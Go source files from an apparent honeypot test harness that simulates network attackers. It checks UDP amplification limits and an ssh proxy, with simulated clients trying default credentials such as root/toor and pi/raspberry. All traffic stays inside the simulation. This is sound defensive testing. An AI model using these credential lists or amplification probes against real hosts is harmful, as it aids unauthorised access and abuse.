	b, err := json.Marshal(v)
	if err == nil {
		return string(b)
	}
	return fmt.Sprintf("%v", v)
}

// volatile keys never compared between runs.
var volatileKeys = map[string]bool{"date": true, "stacktrace": true}

// EventLine renders an event as "k=v k=v" over sorted keys, skipping volatile keys and the ones in skip.
func EventLine(m map[string]interface{}, skip map[string]bool) string {
	keys := make([]string, 0, len(m))
	for k := range m {
		if volatileKeys[k] || skip[k] {
			continue
		}
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var b strings.Builder
	for i, k := range keys {
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(k)
		b.WriteByte('=')
		s := canonValue(m[k])
		if len(s) > 300 {
			s = s[:300] + fmt.Sprintf("...(%d)", len(s))
		}
		b.WriteString(fmt.Sprintf("%q", s))
	}
	return b.String()
}

// eventAddr returns "ip:port" source of an event when present.
func eventSrc(m map[string]interface{}) string {
	ip, ok := m["source-ip"]
	if !ok {
		return ""
	}
	return fmt.Sprintf("%v:%v", ip, m["source-port"])
}
func eventDst(m map[string]interface{}) string {
	ip, ok := m["destination-ip"]
	if !ok {
		return ""
	}
	return fmt.Sprintf("%v:%v", ip, m["destination-port"])
}

func isHeartbeat(m map[string]interface{}) bool {
	return m["category"] == "heartbeat"
}

// debugDumpGoroutines: with VERIF_DUMP=1 (debugging a replay by hand) the stacks of all goroutines go to stderr.
func debugDumpGoroutines() {
	if os.Getenv("VERIF_DUMP") == "" {
		return
	}
	buf := make([]byte, 4<<20)
	n := runtime.Stack(buf, true)
	os.Stderr.Write(buf[:n])
}
