package htsim

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"math/rand/v2"
	"net"
	"os"
	"sort"
	"strconv"
	"strings"
)

// Scenario is one simulated execution written out as plain data: configuration, actors with their
// scripts, and the schedule (choice tape).  Generated from a seed by a pure function; it is also the
// replay file format.
type Scenario struct {
	Prop     string                 `json:"prop"`
	Engine   string                 `json:"engine"`
	Seed     uint64                 `json:"seed"`
	Class    string                 `json:"class,omitempty"` // generator class (for evidence / known-finding predicates)
	Config   string                 `json:"config,omitempty"`
	Actors   []Actor                `json:"actors"`
	Schedule []int                  `json:"schedule"`
	Params   map[string]interface{} `json:"params,omitempty"`
	Faults   []string               `json:"faults,omitempty"` // enabled fault kinds (informational)
	DrainMs  int64                  `json:"drain_ms,omitempty"`
	// Prefix: scenarios run before this one in the same process (replay of a violation that depends on
	// process-global state left behind by earlier runs of the same worker); their verdicts are not judged.
	Prefix []*Scenario `json:"prefix,omitempty"`
}

// Actor is a scripted peer.
type Actor struct {
	Kind string `json:"kind"` // tcp | udp | clock | frame | sender | ...
	Name string `json:"name,omitempty"`
	Src  string `json:"src,omitempty"`
	Dst  string `json:"dst,omitempty"`
	Svc  string `json:"svc,omitempty"` // service type addressed (informational / oracle)
	Ops  []Op   `json:"ops"`
}

// Op is one script step.  K: connect (implicit for tcp), send, close, reset, halfclose, sleep,
// stall, unstall, dgram.
type Op struct {
	K    string          `json:"k"`
	Data string          `json:"data,omitempty"` // hex
	Cuts []int           `json:"cuts,omitempty"` // segmentation offsets inside Data (strictly increasing, 0<c<len)
	Ms   int64           `json:"ms,omitempty"`   // sleep duration
	Exp  json.RawMessage `json:"exp,omitempty"`  // engine-specific expectation attached to this op
	Join bool            `json:"join,omitempty"` // no segment boundary between this op and the next: their bytes form one stream
	Note string          `json:"note,omitempty"`
}

func (o Op) Bytes() []byte {
	b, err := hex.DecodeString(o.Data)
	if err != nil {
		panic("scenario: bad hex in op: " + err.Error())
	}
	return b
}

func SendOp(b []byte, cuts []int, note string) Op {
	return Op{K: "send", Data: hex.EncodeToString(b), Cuts: cuts, Note: note}
}

// Segments splits the op's data at its cut points (invalid cuts are ignored so that shrinking
// the data keeps the op meaningful).
func (o Op) Segments() [][]byte {
	b := o.Bytes()
	var cuts []int
	last := 0
	cs := append([]int(nil), o.Cuts...)
	sort.Ints(cs)
	for _, c := range cs {
		if c > last && c < len(b) {
			cuts = append(cuts, c)
			last = c
		}
	}
	var segs [][]byte
	prev := 0
	for _, c := range cuts {
		segs = append(segs, b[prev:c])
		prev = c
	}
	segs = append(segs, b[prev:])
	return segs
}

func LoadScenario(path string) (*Scenario, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var sc Scenario
	if err := json.Unmarshal(data, &sc); err != nil {
		return nil, err
	}
	return &sc, nil
}

func (sc *Scenario) JSON() []byte {
	b, err := json.Marshal(sc)
	if err != nil {
		panic(err)
	}
	return b
}

func (sc *Scenario) Clone() *Scenario {
	var c Scenario
	if err := json.Unmarshal(sc.JSON(), &c); err != nil {
		panic(err)
	}
	return &c
}

func (sc *Scenario) ParamInt(k string, def int) int {
	if v, ok := sc.Params[k]; ok {
		switch x := v.(type) {
		case float64:
			return int(x)
		case int:
			return x
		}
	}
	return def
}
func (sc *Scenario) ParamStr(k string, def string) string {
	if v, ok := sc.Params[k]; ok {
		if s, ok := v.(string); ok {
			return s
		}
	}
	return def
}
func (sc *Scenario) ParamBool(k string) bool {
	if v, ok := sc.Params[k]; ok {
		if s, ok := v.(bool); ok {
			return s
		}
	}
	return false
}

// ---------------------------------------------------------------------------------------------
// seeded randomness

// Rng is the only source of choices in generators.  PCG keyed by (seed, stream).
type Rng struct{ *rand.Rand }

func NewRng(seed uint64, stream string) *Rng {
	h := fnv.New64a()
	h.Write([]byte(stream))
	return &Rng{rand.New(rand.NewPCG(seed, h.Sum64()))}
}

func (r *Rng) Intn(n int) int {
	if n <= 0 {
		return 0
	}
	return r.IntN(n)
}
func (r *Rng) Range(lo, hi int) int { // inclusive
	if hi <= lo {
		return lo
	}
	return lo + r.IntN(hi-lo+1)
}
func (r *Rng) Chance(p float64) bool { return r.Float64() < p }
func (r *Rng) Pick(xs []string) string {
	return xs[r.IntN(len(xs))]
}
func (r *Rng) Bytes(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.UintN(256))
	}
	return b
}

// Cuts draws a segmentation of n bytes according to a per-op style.
func (r *Rng) Cuts(n int) []int {
	if n <= 1 {
		return nil
	}
	switch r.IntN(6) {
	case 0: // single write
		return nil
	case 1: // one cut
		return []int{1 + r.IntN(n-1)}
	case 2: // 1-byte dribble (bounded)
		if n > 96 {
			k := r.IntN(n - 32)
			var c []int
			for i := k + 1; i < k+32 && i < n; i++ {
				c = append(c, i)
			}
			return c
		}
		c := make([]int, 0, n-1)
		for i := 1; i < n; i++ {
			c = append(c, i)
		}
		return c
	case 3: // a few cuts
		k := 2 + r.IntN(4)
		return r.distinctSorted(k, n)
	case 4: // cut near the end / near the start
		if r.IntN(2) == 0 {
			return []int{n - 1}
		}
		return []int{1}
	default:
		k := 1 + r.IntN(8)
		return r.distinctSorted(k, n)
	}
}

func (r *Rng) distinctSorted(k, n int) []int {
	m := map[int]bool{}
	for i := 0; i < k; i++ {
		m[1+r.IntN(n-1)] = true
	}
	var out []int
	for c := range m {
		out = append(out, c)
	}
	sort.Ints(out)
	return out
}

// Interleave draws a schedule for actors with the given micro-step counts: a random merge.
func (r *Rng) Schedule(n int) []int {
	s := make([]int, n)
	for i := range s {
		s[i] = r.IntN(1 << 12)
	}
	return s
}

// ---------------------------------------------------------------------------------------------
// addresses

func mustTCPAddr(s string) *net.TCPAddr {
	h, p, err := net.SplitHostPort(s)
	if err != nil {
		panic(fmt.Sprintf("bad address %q: %v", s, err))
	}
	port, err := strconv.Atoi(p)
	if err != nil {
		panic(fmt.Sprintf("bad address %q: %v", s, err))
	}
	return &net.TCPAddr{IP: net.ParseIP(h), Port: port}
}
func mustUDPAddr(s string) *net.UDPAddr {
	a := mustTCPAddr(s)
	return &net.UDPAddr{IP: a.IP, Port: a.Port}
}

func hostOf(s string) string {
	h, _, err := net.SplitHostPort(s)
	if err != nil {
		return s
	}
	return h
}
func portOf(s string) int {
	_, p, err := net.SplitHostPort(s)
	if err != nil {
		return 0
	}
	n, _ := strconv.Atoi(p)
	return n
}

// tomlStr quotes a string for TOML (basic string).
func tomlStr(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, c := range []byte(s) {
		switch {
		case c == '"':
			b.WriteString(`\"`)
		case c == '\\':
			b.WriteString(`\\`)
		case c == '\n':
			b.WriteString(`\n`)
		case c == '\r':
			b.WriteString(`\r`)
		case c == '\t':
			b.WriteString(`\t`)
		case c < 0x20 || c == 0x7f:
			fmt.Fprintf(&b, `\u%04x`, c)
		default:
			b.WriteByte(c)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// Pick2 returns a or b.
func (r *Rng) Pick2(a, b int) int {
	if r.Intn(2) == 0 {
		return a
	}
	return b
}
