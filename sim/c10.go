package htsim

import (
	"fmt"
	"net"
	"sort"
	"strings"
	"testing"
	"time"
)

// C10 — UDP services cannot be used as traffic amplifiers.
//
// Bursts of grammar-derived datagrams from 1-3 source IPs (varying source ports) with fake-clock gaps
// from 0 to 25 minutes.  Oracle: in every window shorter than the limiter interval one source IP gets
// at most 4 response datagrams; responses to one IP do not depend on other IPs' traffic.

func init() {
	engines["C10"] = &Engine{Gen: genC10, Run: runC10}
}

var c10Protos = []string{"tftp", "memcached-udp", "snmp", "counterstrike"}

const c10IntervalMs = 10 * 60 * 1000

func genC10(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c10")
	pn := c10Protos[idx%len(c10Protos)]
	p := protoTable[pn]
	sc := &Scenario{Engine: "c10", Params: map[string]interface{}{"proto": pn}}
	sc.Config = baseConfig + serviceConfig(p, "svc0")
	nip := r.Range(1, 3)
	gaps := []int64{0, 0, 0, 0, 1, 1000, 60000, 300000, 599000, 599999, 600000, 600001, 1500000}
	flood := r.Chance(0.3)
	if flood {
		// the amplification attempt proper: a source never seen before sends a burst, all of it released within a
		// step or two, handlers giving way to each other at synchronisation points
		nip = r.Range(1, 2)
		gaps = []int64{0}
	}
	udpMaxReqV = 1 << 30
	v6 := r.Chance(0.25)
	var mixedIPs []string
	for i := 0; i < nip; i++ {
		ip := fmt.Sprintf("203.0.113.%d", 10+i)
		if v6 {
			ip = fmt.Sprintf("2001:db8::%x", 0x10+i) // genuine IPv6 sources
		}
		n := r.Range(1, 12)
		if r.Chance(0.1) {
			n = r.Range(50, 200)
		}
		if flood {
			n = r.Range(6, 14)
		}
		cmds := p.Gen(r, fmt.Sprintf("t%c%s", 'a'+i, r.word(2, 2)), n)
		// one actor per source IP; the source port changes through separate actors sharing the IP
		ports := r.Range(1, 3)
		acts := make([]Actor, ports)
		for k := range acts {
			acts[k] = Actor{Kind: "udp", Name: ip, Src: net.JoinHostPort(ip, fmt.Sprint(20000+100*i+k)), Dst: fmt.Sprintf("%s:%d", sensorIP, p.Port), Svc: pn}
		}
		// (per source: a source whose datagrams do not all draw a response gets a number of responses that depends on
		// the order in which its own datagrams' handlers reach the limiter - the solo comparison below is for the others)
		mixed := r.Chance(0.3)
		if mixed {
			mixedIPs = append(mixedIPs, ip)
		}
		for ci := range cmds {
			// "with whatever contents": half of such a source's datagrams are not what the grammar would say - a valid
			// counterstrike header with an arbitrary query byte (single- or split-packet form), the original cut short,
			// or random bytes
			if mixed && r.Chance(0.5) {
				switch {
				case pn == "counterstrike" && r.Chance(0.7):
					d := []byte{0xff, 0xff, 0xff, byte(0xfe + r.Intn(2)), byte(r.Intn(256))}
					cmds[ci].Data = append(d, r.Bytes(r.Range(0, 20))...)
				case r.Chance(0.5) && len(cmds[ci].Data) > 1:
					cmds[ci].Data = cmds[ci].Data[:r.Range(1, len(cmds[ci].Data)-1)]
				default:
					cmds[ci].Data = r.Bytes(r.Range(1, 200))
				}
				cmds[ci].Note = "other-contents"
			}
		}
		for _, c := range cmds {
			k := r.Intn(ports)
			acts[k].Ops = append(acts[k].Ops, SendOp(c.Data, nil, c.Note))
			if g := gaps[r.Intn(len(gaps))]; g > 0 && n < 50 {
				acts[k].Ops = append(acts[k].Ops, Op{K: "sleep", Ms: g})
			}
		}
		for _, a := range acts {
			if len(a.Ops) > 0 {
				sc.Actors = append(sc.Actors, a)
			}
		}
	}
	sc.Params["mixed_ips"] = strings.Join(mixedIPs, ",")
	sc.Class = fmt.Sprintf("%s ips=%d", pn, nip)
	sc.Schedule = r.Schedule(300)
	if flood {
		for i := range sc.Schedule {
			sc.Schedule[i] |= 1<<16 | 3<<17
		}
		sc.Params["yield_pct"] = []int{30, 50, 70}[r.Intn(3)]
		if r.Chance(0.5) {
			sc.Params["yield_hot"] = []int{15, 30, 50}[r.Intn(3)] // a subset of the sites always yields
		}
		sc.Params["yield_rounds"] = []int{1, 4, 16}[r.Intn(3)]
		sc.Class += " flood yields"
	} else if r.Chance(0.4) {
		bursty := r.Chance(0.5)
		for i := range sc.Schedule {
			if r.Chance(0.3) || bursty {
				sc.Schedule[i] |= 1<<16 | r.Intn(4)<<17
			}
		}
		if r.Chance(0.6) {
			// the handlers of one step give way to each other at synchronisation points (seeded): a burst of
			// datagrams from a source seen for the first time is then handled "at the same time"
			sc.Params["yield_pct"] = []int{20, 50, 80}[r.Intn(3)]
			sc.Class += " yields"
		}
	}
	sc.DrainMs = 2000
	return sc
}

type c10Resp struct {
	AtMs int64
	Data string
}

// c10Responses runs the scenario and returns per destination IP the response datagrams with times.
func c10Responses(t *testing.T, sc *Scenario) (*Obs, map[string][]c10Resp) {
	per := map[string][]c10Resp{}
	obs := RunScenario(t, sc, func(w *World) {
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Play()
		w.Drain()
		for _, d := range w.Net.AllUDPOut() {
			if d.To == nil {
				continue
			}
			ip := d.To.IP.String()
			per[ip] = append(per[ip], c10Resp{AtMs: int64(d.At.Sub(w.Start) / time.Millisecond), Data: fmt.Sprintf("%x", d.Payload)})
		}
	})
	return obs, per
}

func runC10(t *testing.T, sc *Scenario) Result {
	res := okResult()
	pn := sc.ParamStr("proto", "")
	obs, per := c10Responses(t, sc)
	res.Digest = traceDigest(obs, nil)
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	ips := map[string]bool{}
	sent := 0
	for _, a := range sc.Actors {
		ips[hostOf(a.Src)] = true
		for _, o := range a.Ops {
			if o.K == "send" {
				sent++
			}
		}
	}
	res.Nontriv = sent > 4
	total := 0
	for ip, rs := range per {
		total += len(rs)
		if !ips[ip] {
			res.Violate("response-to-foreign-address", pn, fmt.Sprintf("%d responses went to %s which never sent anything", len(rs), ip))
			return res
		}
		// sliding window strictly shorter than the interval
		for i := range rs {
			n := 0
			for j := i; j < len(rs) && rs[j].AtMs-rs[i].AtMs < c10IntervalMs-1; j++ {
				n++
			}
			if n > 4 {
				res.Violate("amplification", pn, fmt.Sprintf("source %s received %d response datagrams within %d ms starting at t=%d ms (limit 4 per 10 min); %d datagrams sent in total", ip, n, c10IntervalMs-1, rs[i].AtMs, sent))
				return res
			}
			if n == 4 {
				res.probe("window-at-limit", 1)
			}
		}
	}
	res.probe("responses", total)
	res.probe("requests", sent)
	res.probe("yields-taken", obs.Yields)
	if sent > total {
		res.probe("limiter-refused", sent-total)
	}
	// metamorphic: drop all other source IPs — the responses to the remaining IP must be the same
	if len(ips) > 1 {
		var list []string
		for ip := range ips {
			// (sources with datagrams that draw no response are not comparable: see the generator)
			if !strings.Contains(","+sc.ParamStr("mixed_ips", "")+",", ","+ip+",") {
				list = append(list, ip)
			}
		}
		sort.Strings(list)
		if len(list) == 0 {
			return res
		}
		keep := list[int(sc.Seed%uint64(len(list)))]
		solo := sc.Clone()
		solo.Actors = nil
		for _, a := range sc.Actors {
			if hostOf(a.Src) == keep {
				solo.Actors = append(solo.Actors, a)
			} else {
				// keep the other sources' clock advances so that the kept source sees the same timing
				b := a
				b.Ops = nil
				for _, o := range a.Ops {
					if o.K == "sleep" {
						b.Ops = append(b.Ops, o)
					} else {
						b.Ops = append(b.Ops, Op{K: "nop"})
					}
				}
				solo.Actors = append(solo.Actors, b)
			}
		}
		_, per2 := c10Responses(t, solo)
		res.Runs = 2
		a, b := c10Canon(per[keep]), c10Canon(per2[keep])
		if a != b {
			res.Violate("allowance-shared-between-sources", pn, fmt.Sprintf("source %s receives %d responses together with other sources and %d alone (same timing)", keep, len(per[keep]), len(per2[keep])))
			return res
		}
		res.probe("metamorphic-solo", 1)
	}
	return res
}

func c10Canon(rs []c10Resp) string {
	var l []string
	for _, r := range rs {
		// when and how many; the content of replies to datagrams released in the same step depends on the
		// order of their handler goroutines (tftp upload state), which is not C10's subject
		l = append(l, fmt.Sprintf("%d", r.AtMs))
	}
	sort.Strings(l)
	return strings.Join(l, "\n")
}
