package htsim

import (
	"bytes"
	"crypto/ed25519"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// C15, ssh-proxy mode: an x/crypto/ssh server inside the bubble is the backend, x/crypto/ssh clients inside the
// bubble are the attackers; the real ssh-proxy service with the real forward director sits between them.
//
// Per client: a user, a list of passwords tried in order (the backend accepts at most one of them), then one
// session channel with a list of channel requests (env, pty-req, exec/shell, unknown types), stdin bytes
// (0..64 KiB) and scripted backend output (0..64 KiB) followed by an exit-status.  Both legs are chopped into
// seeded chunk sizes with fake-clock pauses between the chunks.

type c15SSHReq struct {
	Type    string `json:"type"`
	Payload string `json:"payload"` // hex
	Want    bool   `json:"want"`
}

type c15SSHClient struct {
	User      string      `json:"user"`
	Passwords []string    `json:"passwords"`
	Accept    string      `json:"accept"` // the password the backend accepts for this user ("" with AcceptNone: none)
	AcceptAny bool        `json:"accept_any,omitempty"`
	Requests  []c15SSHReq `json:"requests"`
	Stdin     string      `json:"stdin"`           // hex
	Output    string      `json:"output"`          // hex: what the backend writes to the channel
	Chunk     int         `json:"chunk"`           // write chunk size on both legs
	Exit      int         `json:"exit"`            // exit status the backend reports
	Leave     bool        `json:"leave,omitempty"` // fault: the client drops the connection right after its requests
	// Hold: a slow reader - the client reads nothing of the output until it has written all of its input, and the
	// output is larger than the ssh channel window (2 MiB), so the relay towards the client stalls on flow control
	// while the relay towards the backend is busy
	Hold   bool  `json:"hold,omitempty"`
	HoldMs int64 `json:"hold_ms,omitempty"` // how long the slow reader waits (default 3 s)
	// QuickExit: the backend's command does not read its input - output, exit status and channel close follow each
	// other at once (the client's input may then be cut off legitimately; the output may not)
	QuickExit bool `json:"quick_exit,omitempty"`
}

func genC15SSH(r *Rng, p *c15Params, sc *Scenario) {
	p.Mode = "ssh"
	p.Port = []int{22, 2222}[r.Intn(2)]
	nc := r.Range(1, 3)
	users := []string{"root", "admin", "pi", "oracle"}
	pws := []string{"root", "123456", "toor", "raspberry", "", "p@ss w0rd", "ümlaut"}
	for c := 0; c < nc; c++ {
		cl := c15SSHClient{User: fmt.Sprintf("%s%d", r.Pick(users), c), Chunk: []int{1, 7, 100, 1000, 32768}[r.Intn(5)], Exit: r.Intn(3)}
		for k := r.Range(1, 4); k > 0; k-- {
			cl.Passwords = append(cl.Passwords, r.Pick(pws))
		}
		switch r.Intn(4) {
		case 0:
			cl.Accept = "never-" + r.word(3, 3) // every attempt is rejected by the backend
		default:
			cl.Accept = cl.Passwords[r.Intn(len(cl.Passwords))]
		}
		nr := r.Range(0, 3)
		for k := 0; k < nr; k++ {
			switch r.Intn(4) {
			case 0:
				cl.Requests = append(cl.Requests, c15SSHReq{Type: "env", Payload: hex.EncodeToString(ssh.Marshal(struct{ K, V string }{"LANG" + r.word(0, 3), r.word(0, 12)})), Want: r.Chance(0.5)})
			case 1:
				cl.Requests = append(cl.Requests, c15SSHReq{Type: "pty-req", Payload: hex.EncodeToString(ssh.Marshal(struct {
					Term         string
					W, H, PW, PH uint32
					Modes        string
				}{"xterm", 80, 24, 0, 0, ""})), Want: true})
			case 2:
				cl.Requests = append(cl.Requests, c15SSHReq{Type: "x-" + r.word(2, 6), Payload: hex.EncodeToString(r.Bytes(r.Range(0, 40))), Want: r.Chance(0.5)})
			default:
				cl.Requests = append(cl.Requests, c15SSHReq{Type: "window-change", Payload: hex.EncodeToString(ssh.Marshal(struct{ W, H, PW, PH uint32 }{uint32(r.Range(1, 300)), 50, 0, 0})), Want: false})
			}
		}
		if r.Chance(0.6) {
			cmd := "uname -a; " + r.word(0, 60)
			cl.Requests = append(cl.Requests, c15SSHReq{Type: "exec", Payload: hex.EncodeToString(ssh.Marshal(struct{ C string }{cmd})), Want: true})
		} else {
			cl.Requests = append(cl.Requests, c15SSHReq{Type: "shell", Want: true})
		}
		in := r.Bytes(r.Range(0, 300))
		if r.Chance(0.15) {
			in = r.Bytes(r.Range(20000, 65536))
		}
		out := []byte("out-" + r.word(0, 400))
		if r.Chance(0.15) {
			out = r.Bytes(r.Range(20000, 65536))
		}
		cl.Leave = r.Chance(0.08)
		if !cl.Leave && r.Chance(0.04) {
			cl.Hold = true
			cl.Chunk = 32768
			in = r.Bytes(r.Range(40000, 65536))
			out = r.Bytes(r.Range(2<<20+1, 2<<20+600000))
		}
		if !cl.Hold && r.Chance(0.3) {
			cl.QuickExit = true
		}
		if cl.Hold && r.Chance(0.5) {
			// ... and the command has long exited when the slow reader finally reads (it never read its input): the
			// tail of its output is parked inside the proxy for several seconds
			cl.QuickExit = true
			cl.HoldMs = int64(r.Range(6000, 14000))
		}
		cl.Stdin, cl.Output = hex.EncodeToString(in), hex.EncodeToString(out)
		p.SSH = append(p.SSH, cl)
		cj, _ := json.Marshal(cl)
		sc.Actors = append(sc.Actors, Actor{Kind: "sshc", Name: fmt.Sprintf("c%d", c), Src: clientAddr(c), Dst: fmt.Sprintf("%s:%d", sensorIP, p.Port), Ops: []Op{{K: "c15ssh", Exp: cj}}})
	}
	sc.Class = "ssh"
	if r.Chance(0.4) {
		// the proxy's relay goroutines (two data directions, two request directions per channel) give way to each
		// other at their blocking points
		p.YieldPct = []int{20, 50, 80}[r.Intn(3)]
		p.YieldRounds = []int{1, 4}[r.Intn(2)]
		sc.Class += " yields"
	}
}

// chopConn writes in chunks and gives way between them (segmentation of a library client's leg).
type chopConn struct {
	net.Conn
	n int
}

func (c chopConn) Write(b []byte) (int, error) {
	total := 0
	for len(b) > 0 {
		k := c.n
		if k > len(b) {
			k = len(b)
		}
		n, err := c.Conn.Write(b[:k])
		total += n
		if err != nil {
			return total, err
		}
		b = b[k:]
		if len(b) > 0 {
			// give the reader a turn (no sleep here: the caller holds the ssh library's write lock, and a
			// goroutine waiting for that lock would keep the bubble from ever becoming idle)
			runtimeGoyield()
		}
	}
	return total, nil
}

type c15SSHBackendLog struct {
	mu       sync.Mutex
	Auth     map[string][]string    // user -> passwords presented, in order
	Requests map[string][]c15SSHReq // user -> channel requests seen
	Stdin    map[string][]byte      // user -> bytes received on the channel
	Channels map[string]int         // user -> channels opened
	Conns    int
}

func c15SSHBackend(l net.Listener, clients []c15SSHClient, lg *c15SSHBackendLog) {
	byUser := map[string]c15SSHClient{}
	for _, c := range clients {
		byUser[c.User] = c
	}
	key := ed25519.NewKeyFromSeed(bytes.Repeat([]byte{7}, 32))
	signer, _ := ssh.NewSignerFromKey(key)
	for {
		nc, err := l.Accept()
		if err != nil {
			return
		}
		lg.mu.Lock()
		lg.Conns++
		lg.mu.Unlock()
		go func(nc net.Conn) {
			defer nc.Close()
			cfg := &ssh.ServerConfig{
				MaxAuthTries: -1,
				PasswordCallback: func(cm ssh.ConnMetadata, pw []byte) (*ssh.Permissions, error) {
					lg.mu.Lock()
					lg.Auth[cm.User()] = append(lg.Auth[cm.User()], string(pw))
					lg.mu.Unlock()
					if c, ok := byUser[cm.User()]; ok && c.Accept == string(pw) {
						return nil, nil
					}
					return nil, fmt.Errorf("denied")
				},
			}
			cfg.AddHostKey(signer)
			sc, chans, reqs, err := ssh.NewServerConn(nc, cfg)
			if err != nil {
				return
			}
			defer sc.Close()
			user := sc.User()
			cl := byUser[user]
			go ssh.DiscardRequests(reqs)
			for nch := range chans {
				if nch.ChannelType() != "session" {
					nch.Reject(ssh.UnknownChannelType, "no")
					continue
				}
				ch, creqs, err := nch.Accept()
				if err != nil {
					continue
				}
				lg.mu.Lock()
				lg.Channels[user]++
				lg.mu.Unlock()
				started := make(chan struct{})
				go func() {
					once := false
					for rq := range creqs {
						lg.mu.Lock()
						lg.Requests[user] = append(lg.Requests[user], c15SSHReq{Type: rq.Type, Payload: hex.EncodeToString(rq.Payload), Want: rq.WantReply})
						lg.mu.Unlock()
						if rq.WantReply {
							rq.Reply(true, nil)
						}
						if (rq.Type == "exec" || rq.Type == "shell") && !once {
							once = true
							close(started)
						}
					}
				}()
				stdinEOF := make(chan struct{})
				go func() {
					// everything the client sends on the channel
					defer close(stdinEOF)
					buf := make([]byte, 4096)
					for {
						n, err := ch.Read(buf)
						if n > 0 {
							lg.mu.Lock()
							lg.Stdin[user] = append(lg.Stdin[user], buf[:n]...)
							lg.mu.Unlock()
						}
						if err != nil {
							return
						}
					}
				}()
				go func() {
					<-started
					out, _ := hex.DecodeString(cl.Output)
					chunk := cl.Chunk
					if chunk <= 0 {
						chunk = 1000
					}
					for len(out) > 0 {
						k := chunk
						if k > len(out) {
							k = len(out)
						}
						if _, err := ch.Write(out[:k]); err != nil {
							return
						}
						out = out[k:]
						if !cl.Hold && !cl.QuickExit {
							time.Sleep(time.Millisecond)
						}
					}
					// let the client's input arrive before the channel closes (a command that reads its stdin)
					if !cl.QuickExit {
						time.Sleep(2 * time.Second)
					}
					if cl.Hold && !cl.QuickExit {
						<-stdinEOF // ... to its end (the slow client writes late)
					}
					ch.SendRequest("exit-status", false, ssh.Marshal(struct{ S uint32 }{uint32(cl.Exit)}))
					ch.Close()
				}()
			}
		}(nc)
	}
}

type c15SSHOutcome struct {
	Attempts []string
	LoggedIn bool
	Err      string
	Output   []byte
	Replies  []bool
	Done     bool
	ExitSeen int
}

func runC15SSH(t *testing.T, sc *Scenario, p *c15Params) Result {
	res := okResult()
	lg := &c15SSHBackendLog{Auth: map[string][]string{}, Requests: map[string][]c15SSHReq{}, Stdin: map[string][]byte{}, Channels: map[string]int{}}
	outs := map[string]*c15SSHOutcome{}
	decoy := 0
	obs := RunScenario(t, sc, func(w *World) {
		n := w.Net
		if p.Fault == "refuse" {
			n.RefuseDial = func(network, addr string) bool { return true }
		}
		for _, ip := range []string{backendAddr, decoyAddr} {
			ip := ip
			l, err := n.ListenTCP(&net.TCPAddr{IP: net.ParseIP(ip), Port: p.Port}, "backend")
			if err != nil {
				w.Obs.BootErr = err.Error()
				return
			}
			if ip == decoyAddr {
				go func() {
					for {
						c, err := l.Accept()
						if err != nil {
							return
						}
						decoy++
						c.Close()
					}
				}()
				continue
			}
			go c15SSHBackend(l, p.SSH, lg)
		}
		if err := w.bootServer(sc.Config); err != nil {
			w.Obs.BootErr = err.Error()
			return
		}
		w.Custom = func(w *World, ai int, op Op) {
			if op.K != "c15ssh" {
				return
			}
			var cl c15SSHClient
			json.Unmarshal(op.Exp, &cl)
			a := &w.Sc.Actors[ai]
			out := &c15SSHOutcome{ExitSeen: -1}
			outs[cl.User] = out
			go func() {
				defer func() { out.Done = true }()
				ep, err := w.Net.Connect(mustTCPAddr(a.Src), mustTCPAddr(a.Dst))
				if err != nil {
					out.Err = err.Error()
					return
				}
				defer ep.Close()
				ep.SetDeadline(time.Now().Add(5 * time.Minute))
				i := 0
				cfg := &ssh.ClientConfig{
					User:            cl.User,
					HostKeyCallback: ssh.InsecureIgnoreHostKey(),
					Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
						if i >= len(cl.Passwords) {
							return "", fmt.Errorf("no more passwords")
						}
						pw := cl.Passwords[i]
						i++
						out.Attempts = append(out.Attempts, pw)
						return pw, nil
					}), len(cl.Passwords))},
				}
				conn, chans, reqs, err := ssh.NewClientConn(chopConn{ep, cl.Chunk}, a.Dst, cfg)
				if err != nil {
					out.Err = err.Error()
					return
				}
				out.LoggedIn = true
				go ssh.DiscardRequests(reqs)
				go func() {
					for nc := range chans {
						nc.Reject(ssh.Prohibited, "no")
					}
				}()
				defer conn.Close()
				ch, creqs, err := conn.OpenChannel("session", nil)
				if err != nil {
					out.Err = "open channel: " + err.Error()
					return
				}
				go func() {
					for rq := range creqs {
						if rq.Type == "exit-status" && len(rq.Payload) >= 4 {
							out.ExitSeen = int(rq.Payload[3])
						}
						if rq.WantReply {
							rq.Reply(false, nil)
						}
					}
				}()
				for _, rq := range cl.Requests {
					pl, _ := hex.DecodeString(rq.Payload)
					ok, err := ch.SendRequest(rq.Type, rq.Want, pl)
					if err != nil {
						out.Err = "request " + rq.Type + ": " + err.Error()
						return
					}
					out.Replies = append(out.Replies, ok)
				}
				if cl.Leave {
					return // the connection drops (deferred closes)
				}
				in, _ := hex.DecodeString(cl.Stdin)
				if cl.Hold {
					// let the output pile up against the channel window first, then write, then read
					wait := 3 * time.Second
					if cl.HoldMs > 0 {
						wait = time.Duration(cl.HoldMs) * time.Millisecond
					}
					time.Sleep(wait)
					ch.Write(in)
					ch.CloseWrite()
					out.Output, _ = io.ReadAll(ch)
					return
				}
				go func() {
					ch.Write(in)
					ch.CloseWrite()
				}()
				out.Output, _ = io.ReadAll(ch)
			}()
		}
		w.Play()
		w.Drain()
		debugDumpGoroutines()
	})
	res.Digest = traceDigest(obs, map[string]bool{"ssh.sessionid": true, "ssh.recording": true})
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = true
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	site := "ssh"
	wantDial := fmt.Sprintf("%s:%d", backendAddr, p.Port)
	for _, l := range obs.NetLog {
		if i := strings.Index(l, " dial "); i >= 0 {
